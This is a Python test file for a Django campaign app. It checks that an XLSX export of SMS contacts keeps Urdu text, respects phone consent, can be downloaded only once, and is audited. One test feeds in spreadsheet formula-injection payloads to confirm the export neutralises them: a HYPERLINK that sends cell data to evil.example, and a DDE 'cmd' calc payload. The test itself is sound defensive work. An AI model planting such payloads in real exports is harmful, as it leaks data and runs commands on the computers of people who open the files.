"""The RapidPro audience as XLSX: the same columns, rows, consent check, once-only handover and audit as the CSV,
with Urdu intact when read back (openpyxl) and no cell a spreadsheet would run."""

from __future__ import annotations

import io

from django.core.exceptions import ValidationError
from openpyxl import load_workbook

from hifazat.campaigns import exports, services
from hifazat.campaigns.models import MessageExport, Reach
from hifazat.core.models import AuditEntry
from hifazat.core.roles import Role
from hifazat.people.models import Person

from .base import WIDOWS, CampaignTestCase

URDU_SMS = "ملازمت یا شادی کی پیشکش پر بھروسہ کرنے سے پہلے ہیلپ لائن ۰۸۰۰-۴۴۳۳۳ پر فون کریں۔"
URDU_NAME = "نسرین"
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def sheet_rows(content: bytes) -> list[list]:
    book = load_workbook(io.BytesIO(content))
    assert book.sheetnames[0] == "Contacts"
    return [list(row) for row in book.worksheets[0].iter_rows(values_only=True)]


class RapidProXlsxTests(CampaignTestCase):
    def setUp(self) -> None:
        super().setUp()
        self.nasreen = self.widow("Nasreen", phone="0300-1234567")
        Person.objects.filter(pk=self.nasreen.pk).update(first_name=URDU_NAME)
        self.declined = self.widow("Zainab", phone="0301-7654321")
        self.phone_consent(self.nasreen)
        self.phone_consent(self.declined, "declined")
        self.campaign_ = self.campaign()
        self.message = services.key_message_create(
            actor=self.coordinator, campaign=self.campaign_, title="Ask first", topic="what_to_do"
        )
        self.approved(self.message, "urd", "sms", URDU_SMS)

    def start(self) -> MessageExport:
        with self.captureOnCommitCallbacks(execute=True):
            return exports.export_start(
                actor=self.coordinator, message=self.message, target_group=WIDOWS[0], fallback_language="urd"
            )

    def test_the_xlsx_has_the_csv_columns_and_rows_with_urdu_intact(self) -> None:
        export = self.start()
        name, content = exports.export_download(actor=self.coordinator, export=export, file_format="xlsx")
        self.assertTrue(name.endswith(".xlsx"))
        rows = sheet_rows(content)
        self.assertEqual(rows[0], exports.HEADERS)
        # Only the person whose consent allows phone contact; the number stays text in E.164.
        self.assertEqual(rows[1:], [["+923001234567", URDU_NAME, "urd", URDU_SMS, "ISB-H11"]])
        book = load_workbook(io.BytesIO(content))
        self.assertEqual(book.worksheets[0]["A2"].data_type, "s")

    def test_it_is_taken_once_in_either_format_and_audited_with_field_names_only(self) -> None:
        export = self.start()
        exports.export_download(actor=self.coordinator, export=export, file_format="xlsx")
        with self.assertRaisesMessage(ValidationError, "already taken"):
            exports.export_download(actor=self.coordinator, export=export, file_format="csv")
        entry = AuditEntry.objects.get(object_uuid=export.uuid, action=AuditEntry.Action.EXPORT)
        self.assertEqual((entry.detail["format"], entry.detail["fields"]), ("xlsx", exports.HEADERS))
        self.assertNotIn("+92", str(entry.detail))
        self.assertNotIn(URDU_NAME, str(entry.detail))
        self.assertEqual(Reach.objects.filter(export=export).count(), 1)

    def test_cells_a_spreadsheet_would_run_are_text(self) -> None:
        attacks = {
            '=HYPERLINK("http://evil.example/?"&A1,"Click")': '\'=HYPERLINK("http://evil.example/?"&A1,"Click")',
            "+SUM(1+1)": "'+SUM(1+1)",
            "-2+3+cmd|' /C calc'!A0": "'-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)": "'@SUM(1+1)",
            "\t=1+1": "'\t=1+1",
            # XML reads a carriage return back as a line feed: still text behind the quote.
            "\r=1+1": "'\n=1+1",
        }
        people = []
        for n, first_name in enumerate(attacks):
            person = self.widow(f"P{n}", phone=f"0300-55500{n}{n}")
            Person.objects.filter(pk=person.pk).update(first_name=first_name)
            self.phone_consent(person)
            people.append(person)
        _name, content = exports.export_download(
            actor=self.coordinator, export=self.start(), file_format="xlsx"
        )
        book = load_workbook(io.BytesIO(content))
        names = {row[1].value for row in book.worksheets[0].iter_rows(min_row=2)}
        for cell in book.worksheets[0].iter_rows(min_row=2):
            self.assertNotEqual(cell[1].data_type, "f")
        self.assertTrue(set(attacks.values()) <= names)

    def test_an_unknown_format_is_refused_before_anything_is_handed_over(self) -> None:
        export = self.start()
        with self.assertRaisesMessage(ValidationError, "Choose CSV or XLSX"):
            exports.export_download(actor=self.coordinator, export=export, file_format="pdf")
        export.refresh_from_db()
        self.assertIsNone(export.downloaded_at)

    def test_the_page_offers_both_formats_and_hands_over_the_xlsx(self) -> None:
        export = self.start()
        client = self.client_for(self.a[Role.CAMPAIGN_COORDINATOR])
        page = client.get(f"/campaigns/exports/{export.uuid}/")
        self.assertContains(page, 'value="xlsx"')
        bad = client.post(f"/campaigns/exports/{export.uuid}/download/", {"file_format": "pdf"}, follow=True)
        self.assertContains(bad, "Choose CSV or XLSX.")
        download = client.post(f"/campaigns/exports/{export.uuid}/download/", {"file_format": "xlsx"})
        self.assertEqual(download["Content-Type"], XLSX)
        self.assertIn(".xlsx", download["Content-Disposition"])
        self.assertEqual(sheet_rows(download.content)[1][3], URDU_SMS)
